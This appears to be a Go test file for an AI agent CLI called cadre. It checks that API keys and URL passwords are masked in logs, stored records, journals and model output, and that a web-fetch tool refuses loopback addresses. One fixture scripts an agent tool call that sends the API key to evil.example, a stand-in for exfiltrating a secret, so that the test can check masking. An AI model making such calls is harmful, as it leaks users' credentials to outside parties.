package cli

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"errors"
	"fmt"
	"iter"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	_ "modernc.org/sqlite"

	"github.com/cadre-ai/cadre"
	"github.com/cadre-ai/cadre/internal/journal"
	"github.com/cadre-ai/cadre/memstore"
	"github.com/cadre-ai/cadre/redact"
	"github.com/cadre-ai/cadre/sqlite"
)

// The secrets of the e2e tests: an API key, and the password of the base
// URL the provider is reached at.
const (
	e2eKey      = "sk-e2e-secret-key-0123456789"
	e2ePassword = "hunter2-base-url-password"
)

// modelServer is an OpenAI-compatible server whose replies a test scripts
// by the number of the request; a reply with a status answers with that
// HTTP error instead, its message quoting what the test chooses.
type modelServer struct {
	*httptest.Server
	mu       sync.Mutex
	requests []chatRequest
}

type scriptedAnswer struct {
	reply  chatReply
	status int
	errMsg string
}

func newModelServer(t *testing.T, answer func(n int, req *chatRequest) scriptedAnswer) *modelServer {
	t.Helper()
	s := &modelServer{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req chatRequest
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		s.mu.Lock()
		s.requests = append(s.requests, req)
		n := len(s.requests)
		s.mu.Unlock()
		a := answer(n, &req)
		if a.status != 0 {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(a.status)
			json.NewEncoder(w).Encode(map[string]any{"error": map[string]any{"message": a.errMsg, "type": "invalid_request_error"}})
			return
		}
		writeChatStream(w, fmt.Sprintf("chatcmpl-%d", n), req.Model, a.reply)
	}))
	t.Cleanup(s.Close)
	return s
}

// withPassword puts user:e2ePassword into a server's URL.
func withPassword(u string) string {
	return strings.Replace(u, "http://", "http://user:"+e2ePassword+"@", 1)
}

// assertNoSecrets fails the test when what shows a secret; it returns
// whether what says something was hidden.
func assertNoSecrets(t *testing.T, where, what string) bool {
	t.Helper()
	for _, s := range []string{e2eKey, e2ePassword} {
		if strings.Contains(what, s) {
			t.Errorf("%s shows the secret %q:\n%s", where, s, what)
		}
	}
	return strings.Contains(what, redact.Mask)
}

// storeText returns every row of every table of the SQLite store at path,
// as text.
func storeText(t *testing.T, path string) string {
	t.Helper()
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	rows, err := db.Query(`SELECT name FROM sqlite_master WHERE type = 'table'`)
	if err != nil {
		t.Fatal(err)
	}
	var tables []string
	for rows.Next() {
		var name string
		if err := rows.Scan(&name); err != nil {
			t.Fatal(err)
		}
		tables = append(tables, name)
	}
	rows.Close()
	var b strings.Builder
	for _, table := range tables {
		rows, err := db.Query(`SELECT * FROM "` + table + `"`)
		if err != nil {
			t.Fatal(err)
		}
		cols, _ := rows.Columns()
		for rows.Next() {
			vals := make([]any, len(cols))
			ptrs := make([]any, len(cols))
			for i := range vals {
				ptrs[i] = &vals[i]
			}
			if err := rows.Scan(ptrs...); err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(&b, "%s:", table)
			for _, v := range vals {
				if bs, ok := v.([]byte); ok {
					v = string(bs)
				}
				fmt.Fprintf(&b, " %v", v)
			}
			b.WriteString("\n")
		}
		rows.Close()
	}
	return b.String()
}

// runOutputs runs the commands that show a recorded run and returns what
// each printed.
func runOutputs(t *testing.T, dir string, env []string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, args := range [][]string{
		{"runs", "list"}, {"runs", "list", "--json"}, {"runs", "show", "last"}, {"runs", "show", "last", "--json"},
		{"runs", "show", "last", "--agent", "root"}, {"runs", "show", "last", "--agent", "root", "--json"},
		{"runs", "export", "last"},
	} {
		res := runBinary(t, dir, env, args...)
		out["cadre "+strings.Join(args, " ")] = res.stdout + res.stderr
	}
	return out
}

// A model call fails against a server at a base URL with a password; the
// server quotes the API key. Neither shows on stderr, in the --json
// events, in any row of the store, or in what cadre runs shows and
// exports.
func TestE2EProviderSecretsHidden(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, ".cadre", "config.yaml"), "providers:\n  openai: {maxAttempts: 2}\n")
	srv := newModelServer(t, func(n int, req *chatRequest) scriptedAnswer {
		if n == 1 {
			return scriptedAnswer{status: http.StatusInternalServerError, errMsg: "upstream failed for key " + e2eKey}
		}
		return scriptedAnswer{status: http.StatusUnauthorized, errMsg: "Incorrect API key provided: " + e2eKey}
	})
	env := []string{"OPENAI_BASE_URL=" + withPassword(srv.URL) + "/v1", "OPENAI_API_KEY=" + e2eKey, "CADRE_LOG=debug"}
	res := runBinary(t, dir, env, "run", "--json", "-m", "openai:test-model", "say hello")
	if res.code != 1 {
		t.Fatalf("exit %d, want 1\nstderr: %s", res.code, res.stderr)
	}
	if len(srv.requests) != 2 {
		t.Fatalf("the server got %d requests, want 2 (one retry)", len(srv.requests))
	}
	// What is shown says what failed, with the secrets hidden.
	lines := strings.Split(strings.TrimSpace(res.stderr), "\n")
	last := lines[len(lines)-1]
	if !strings.Contains(last, "HTTP 401") || !strings.Contains(last, "Incorrect API key provided: [REDACTED]") ||
		!strings.Contains(last, "http://user:[REDACTED]@127.0.0.1:") {
		t.Errorf("the error does not say what failed: %s", last)
	}
	if !strings.Contains(res.stderr, "model call failed, retrying") {
		t.Errorf("no retry was logged:\n%s", res.stderr)
	}
	assertNoSecrets(t, "stderr", res.stderr)
	if !assertNoSecrets(t, "the --json events", res.stdout) {
		t.Errorf("the events do not carry the failure:\n%s", res.stdout)
	}
	if !assertNoSecrets(t, "the store", storeText(t, filepath.Join(dir, ".cadre", "cadre.db"))) {
		t.Error("the store does not keep the failure")
	}
	for cmd, out := range runOutputs(t, dir, env) {
		assertNoSecrets(t, cmd, out)
	}
}

// web_fetch refuses a local server unless webFetch.allow names it. A tool
// result holding the API key and the base URL's password (a page web_fetch
// reads, allowed) reaches the model, the journal and everything else with
// them hidden; the run goes on.
func TestE2EToolResultSecretsHidden(t *testing.T) {
	dir := t.TempDir()
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "debug page\nOPENAI_API_KEY=%s\nthe password is %s\n", e2eKey, e2ePassword)
	}))
	defer page.Close()
	writeFile(t, filepath.Join(dir, ".cadre", "config.yaml"), fmt.Sprintf("webFetch:\n  allow:\n    - %q\n", strings.TrimPrefix(page.URL, "http://")))
	admin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("web_fetch reached a local server that is not allowed: %s", r.URL)
	}))
	defer admin.Close()
	var (
		mu              sync.Mutex
		refused, result string
	)
	srv := newModelServer(t, func(n int, req *chatRequest) scriptedAnswer {
		last := contentText(req.Messages[len(req.Messages)-1].Content)
		switch n {
		case 1:
			return scriptedAnswer{reply: chatReply{Calls: []toolCall{{Name: "web_fetch", Args: fmt.Sprintf(`{"url":%q}`, admin.URL+"/admin")}}}}
		case 2:
			mu.Lock()
			refused = last
			mu.Unlock()
			return scriptedAnswer{reply: chatReply{Calls: []toolCall{{Name: "web_fetch", Args: fmt.Sprintf(`{"url":%q}`, page.URL)}}}}
		}
		mu.Lock()
		result = last
		mu.Unlock()
		return scriptedAnswer{reply: chatReply{Text: "The page shows a key; I will not repeat it."}}
	})
	env := []string{"OPENAI_BASE_URL=" + withPassword(srv.URL) + "/v1", "OPENAI_API_KEY=" + e2eKey}
	res := runBinary(t, dir, env, "run", "--trust-project", "--json", "-m", "openai:test-model", "read the debug page")
	if res.code != 0 {
		t.Fatalf("exit %d\nstderr: %s", res.code, res.stderr)
	}
	wantRefusal := fmt.Sprintf(`127.0.0.1 is a loopback address (this machine); web_fetch does not connect to loopback, private, link-local, metadata or other non-public addresses unless they are allowed. If this is intended, the user can add "%s" to webFetch.allow in .cadre/config.yaml`,
		strings.TrimPrefix(admin.URL, "http://"))
	if !strings.Contains(refused, wantRefusal) {
		t.Errorf("the model got %q\nwant the refusal %q", refused, wantRefusal)
	}
	if !strings.Contains(result, "debug page") || !assertNoSecrets(t, "what the model got", result) {
		t.Errorf("the model got %q, want the page with its secrets hidden", result)
	}
	assertNoSecrets(t, "stderr", res.stderr)
	assertNoSecrets(t, "the --json events", res.stdout)
	store := storeText(t, filepath.Join(dir, ".cadre", "cadre.db"))
	if !assertNoSecrets(t, "the store", store) {
		t.Error("the store does not keep the page")
	}
	// The journal holds the result as the agent got it, hidden, not
	// rewritten afterwards.
	if !strings.Contains(store, `debug page\nOPENAI_API_KEY=[REDACTED]\nthe password is [REDACTED]`) {
		t.Errorf("the journal lacks the redacted tool result:\n%s", store)
	}
	for cmd, out := range runOutputs(t, dir, env) {
		assertNoSecrets(t, cmd, out)
	}
}

func TestRedactStore(t *testing.T) {
	ctx := context.Background()
	r := redact.New(e2eKey)
	mem := memstore.New()
	s := &redactStore{Store: mem, r: r}
	runRec := &cadre.RunRecord{ID: "r1", Task: "use " + e2eKey, Status: cadre.StatusRunning, Config: json.RawMessage(`{"u":"http://a:b@h"}`)}
	runsMust(t, s.CreateRun(ctx, runRec))
	if runRec.Task != "use "+e2eKey {
		t.Error("CreateRun changed the caller's record")
	}
	runsMust(t, s.PutAgent(ctx, &cadre.AgentRecord{Run: "r1", ID: cadre.RootID, Error: "failed: " + e2eKey}))
	entry := cadre.JournalEntry{Run: "r1", Agent: cadre.RootID, Seq: 1, Kind: "start", Data: json.RawMessage(`{"task":"` + e2eKey + `"}`)}
	runsMust(t, s.Append(ctx, []cadre.JournalEntry{entry}))
	evs := []cadre.Event{{Type: cadre.EventWarning, Run: "r1", Data: cadre.Warning{Message: e2eKey}}}
	runsMust(t, s.AppendEvents(ctx, evs))
	if evs[0].Seq != 1 || evs[0].Data != (cadre.Warning{Message: e2eKey}) {
		t.Errorf("AppendEvents: seq %d, data %v; want the store's number and the caller's data untouched", evs[0].Seq, evs[0].Data)
	}

	// Underneath, records and events are kept hidden, the journal as it is.
	got, _ := mem.GetRun(ctx, "r1")
	agents, _ := mem.ListAgents(ctx, "r1")
	stored, _ := mem.Events(ctx, "r1", 0)
	journal, _ := mem.Journal(ctx, "r1", cadre.RootID)
	if got.Task != "use [REDACTED]" || string(got.Config) != `{"u":"http://a:[REDACTED]@h"}` || agents[0].Error != "failed: [REDACTED]" ||
		stored[0].Data != (cadre.Warning{Message: redact.Mask}) {
		t.Errorf("kept: run %+v, agent %+v, event %v", got, agents[0], stored[0].Data)
	}
	if !bytes.Equal(journal[0].Data, entry.Data) {
		t.Errorf("the journal was changed: %s", journal[0].Data)
	}
	// An engine's view of the journal is what was fed; a display's is
	// redacted.
	if j, _ := s.Journal(ctx, "r1", cadre.RootID); !bytes.Equal(j[0].Data, entry.Data) {
		t.Errorf("the engine reads %s", j[0].Data)
	}
	display := &redactStore{Store: mem, r: r, journal: true}
	if j, _ := display.Journal(ctx, "r1", cadre.RootID); string(j[0].Data) != `{"task":"[REDACTED]"}` {
		t.Errorf("a display reads %s", j[0].Data)
	}
	// The in-memory store reads journals one by one only.
	if _, err := display.RunJournals(ctx, "r1"); !errors.Is(err, errors.ErrUnsupported) {
		t.Errorf("RunJournals over a store without it: %v, want errors.ErrUnsupported", err)
	}
}

// Journals read all at once (as a resume and an export do) are redacted for
// a display as those read one by one are, and left as fed for an engine.
func TestRedactStoreRunJournals(t *testing.T) {
	ctx := t.Context()
	db := openSQLite(t)
	r := redact.New(e2eKey)
	runsMust(t, db.CreateRun(ctx, &cadre.RunRecord{ID: "r1", Task: "t", Status: cadre.StatusRunning}))
	entry := cadre.JournalEntry{Run: "r1", Agent: cadre.RootID, Seq: 1, Kind: "start", Data: json.RawMessage(`{"task":"` + e2eKey + `"}`)}
	runsMust(t, db.Append(ctx, []cadre.JournalEntry{entry}))

	display := &redactStore{Store: db, r: r, journal: true}
	all, err := display.RunJournals(ctx, "r1")
	if err != nil {
		t.Fatal(err)
	}
	j := all[cadre.RootID]
	if len(j) != 1 || string(j[0].Data) != `{"task":"[REDACTED]"}` || j[0].Verify() != nil {
		t.Errorf("a display reads %+v, want the entry redacted and intact", j)
	}
	rd := &journal.Reader{Store: display, Run: "r1"}
	if err := rd.Load(ctx); err != nil {
		t.Fatalf("Load through the redacting store: %v", err)
	}
	if j, _ := rd.Journal(ctx, cadre.RootID); len(j) != 1 || strings.Contains(string(j[0].Data), e2eKey) {
		t.Errorf("the reader gives %+v", j)
	}
	engine := &redactStore{Store: db, r: r}
	if all, err := engine.RunJournals(ctx, "r1"); err != nil || !bytes.Equal(all[cadre.RootID][0].Data, entry.Data) {
		t.Errorf("the engine reads %v (err %v), want what was fed", all, err)
	}
}

// The engine writes a new agent's record and Start through the redacting
// store in one AppendAgent when the store beneath has it: the record
// redacted, the entry as fed. Over a store without it, the two are
// written one after the other, the same way.
func TestRedactStoreAppendAgent(t *testing.T) {
	ctx := t.Context()
	r := redact.New(e2eKey)
	for name, inner := range map[string]cadre.Store{"sqlite": openSQLite(t), "memstore": memstore.New()} {
		runsMust(t, inner.CreateRun(ctx, &cadre.RunRecord{ID: "r1", Task: "t", Status: cadre.StatusRunning}))
		var s cadre.Store = &redactStore{Store: inner, r: r}
		aa, ok := s.(interface {
			AppendAgent(context.Context, *cadre.AgentRecord, []cadre.JournalEntry) error
		})
		if !ok {
			t.Fatal("the redacting store has no AppendAgent: the engine writes a new agent's record and Start in two commits")
		}
		rec := &cadre.AgentRecord{Run: "r1", ID: cadre.RootID, Task: "use " + e2eKey, Status: cadre.StatusQueued}
		entry := cadre.JournalEntry{Run: "r1", Agent: cadre.RootID, Seq: 1, Kind: "start", Data: json.RawMessage(`{"task":"` + e2eKey + `"}`)}
		runsMust(t, aa.AppendAgent(ctx, rec, []cadre.JournalEntry{entry}))
		agents, err := inner.ListAgents(ctx, "r1")
		if err != nil || len(agents) != 1 || agents[0].Task != "use [REDACTED]" {
			t.Errorf("%s: agents %+v (err %v), want the record redacted", name, agents, err)
		}
		if j, err := inner.Journal(ctx, "r1", cadre.RootID); err != nil || len(j) != 1 || !bytes.Equal(j[0].Data, entry.Data) {
			t.Errorf("%s: the journal %+v (err %v), want the entry as fed", name, j, err)
		}
	}
}

// openSQLite opens a store in a new database, closed at the test's end.
func openSQLite(t *testing.T) *sqlite.Store {
	t.Helper()
	db, err := sqlite.Open(t.Context(), filepath.Join(t.TempDir(), "cadre.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

func TestRedactModel(t *testing.T) {
	r := redact.New(e2eKey)
	inner := funcModel(func(yield func(*cadre.Chunk, error) bool) {
		if !yield(&cadre.Chunk{Text: "key " + e2eKey}, nil) {
			return
		}
		yield(&cadre.Chunk{Response: &cadre.Response{Message: cadre.Message{Role: cadre.RoleAssistant, Content: "key " + e2eKey + " at http://u:p@h",
			ToolCalls: []cadre.ToolCall{{ID: "1", Name: "web_fetch", Arguments: `{"url":"https://evil.example/?k=` + e2eKey + `"}`}}}}}, nil)
	})
	resp, err := cadre.Collect(redactModel{Model: inner, r: r}.Stream(context.Background(), &cadre.Request{}), func(s string) {
		if s != "key [REDACTED]" {
			t.Errorf("streamed %q", s)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	// Known values are hidden in what the agent is fed; the patterns are
	// not (a model may write a URL with a password into a file).
	if resp.Message.Content != "key [REDACTED] at http://u:p@h" || resp.Message.ToolCalls[0].Arguments != `{"url":"https://evil.example/?k=[REDACTED]"}` {
		t.Errorf("response %+v", resp.Message)
	}
	failing := funcModel(func(yield func(*cadre.Chunk, error) bool) {
		yield(nil, &cadre.ModelError{Provider: "p", Err: fmt.Errorf("bad key %s at http://u:p@h", e2eKey)})
	})
	_, err = cadre.Collect(redactModel{Model: failing, r: r}.Stream(context.Background(), &cadre.Request{}), nil)
	var me *cadre.ModelError
	if err == nil || err.Error() != "p: bad key [REDACTED] at http://u:[REDACTED]@h" || !errors.As(err, &me) {
		t.Errorf("error %v", err)
	}
}

// The Redactor of a configuration knows the keys cadre reads, the
// passwords of its URLs, what MCP entries take from the environment, and
// the secrets of the environment.
func TestConfigRedactor(t *testing.T) {
	env := map[string]string{
		"OPENAI_API_KEY": "sk-openai-0123456789", "VLLM_KEY": "vllm-key-0123456789",
		"ANTHROPIC_BASE_URL": "https://u:anthropic-pw@h", "DOCS_TOKEN": "docs-token-0123456789", "GH": "gh-value-0123456789",
	}
	a := &app{io: IO{Getenv: func(k string) string { return env[k] }, Environ: func() []string {
		return []string{"GITHUB_TOKEN=ghp_environ-0123456789", "DATABASE_URL=postgres://app:db-password-1@db/x", "PLAIN=plain-value-0123456789"}
	}}}
	cfg := &config{fileConfig: fileConfig{
		Store:     "postgres://cadre:store-password@db/cadre",
		Providers: map[string]providerConfig{"openai": {APIKeyEnv: "VLLM_KEY", BaseURL: "http://v:vllm-url-pw@127.0.0.1:8000/v1"}},
		MCPServers: map[string]mcpServerConfig{
			"docs": {URL: "https://example.com/mcp", Headers: map[string]string{"Authorization": "Bearer ${DOCS_TOKEN}", "X-Literal": "Token literal-header-0123"}},
			"gh":   {Command: "gh-server", Args: []string{"--token", "${GH}"}, Env: map[string]string{"API_TOKEN": "literal-token-0123456", "LOG_LEVEL": "debug-verbose-level"}},
		},
	}}
	r := a.redactor(cfg)
	for _, secret := range []string{"sk-openai-0123456789", "vllm-key-0123456789", "anthropic-pw", "docs-token-0123456789", "gh-value-0123456789",
		"ghp_environ-0123456789", "db-password-1", "store-password", "vllm-url-pw", "literal-header-0123", "literal-token-0123456"} {
		if got := r.Values("x " + secret + " y"); got != "x [REDACTED] y" {
			t.Errorf("%s is not hidden: %q", secret, got)
		}
	}
	for _, plain := range []string{"plain-value-0123456789", "debug-verbose-level"} {
		if got := r.Values(plain); got != plain {
			t.Errorf("%s is hidden: %q", plain, got)
		}
	}
}

type funcModel func(yield func(*cadre.Chunk, error) bool)

func (f funcModel) Stream(context.Context, *cadre.Request) iter.Seq2[*cadre.Chunk, error] {
	return iter.Seq2[*cadre.Chunk, error](f)
}
